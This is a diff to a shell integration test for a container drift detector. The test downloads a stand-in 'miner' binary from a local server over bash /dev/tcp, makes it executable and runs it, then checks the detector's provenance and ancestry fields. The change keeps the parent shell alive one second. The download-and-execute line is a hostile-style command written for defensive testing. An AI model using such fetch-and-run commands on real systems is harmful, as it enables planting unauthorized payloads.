@@ -40,7 +40,7 @@ done
 podman run -d --name "$name" --network host "$debian" sleep 600 >/dev/null
 download='exec 3<>/dev/tcp/127.0.0.1/'"$port"'; printf "GET /miner HTTP/1.0\r\nHost: x\r\n\r\n" >&3; cat <&3 > /tmp/miner.http; tail -c '"$miner_size"' /tmp/miner.http > /tmp/miner; chmod +x /tmp/miner'
 attack() { # the exit code of the attack in a login-like shell chain
-    set +e; podman exec "$name" /bin/bash -c "$download; /bin/sh -c '/tmp/miner; exit \$?'"; local code=$?; set -e
+    set +e; podman exec "$name" /bin/bash -c "$download; /bin/sh -c '/tmp/miner; code=\$?; sleep 1; exit \$code'"; local code=$?; set -e
     echo "$code"
 }
 event_for_miner() {
@@ -65,7 +65,9 @@ check '.file.in_image == false and .file.size == '"$miner_size" "not in the imag
 check '.container.name == "'"$name"'" and (.container.image.name | contains("driftguard-test/debian"))' "container and image"
 check '.process.argv[0] == "/tmp/miner" and .node != ""' "argv and node"
 # bash runs its last command by exec, so the downloading shell became `sh -c ...`, the
-# miner's parent: the same process connected to the server and started the miner.
+# miner's parent: the same process connected to the server and started the miner. (The
+# shell lingers a second: a parent's program and argv are read from /proc, which a parent
+# that exits at once may no longer have; its pid and comm come from the kernel.)
 check 'any(.process.ancestry[]; .comm == "sh" and .exe == "/usr/bin/dash" and .argv[0] == "/bin/sh")' "ancestry has the shell with its program and argv"
 check '.process.ppid as $p | any(.provenance.connections[]; .pid == $p)' "the connection was made by the miner's parent"
 check '.provenance.last_writer.comm == "tail" and .provenance.last_writer.argv[0] == "tail"' "writer"
